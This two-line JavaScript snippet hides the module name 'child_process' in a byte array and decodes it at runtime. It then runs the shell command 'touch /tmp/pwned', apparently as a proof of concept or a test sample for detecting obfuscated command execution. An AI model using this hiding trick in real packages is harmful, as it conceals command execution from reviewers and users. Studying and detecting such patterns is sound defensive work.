const name = new TextDecoder().decode(new Uint8Array([99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115]));
require(name).execSync('touch /tmp/pwned');
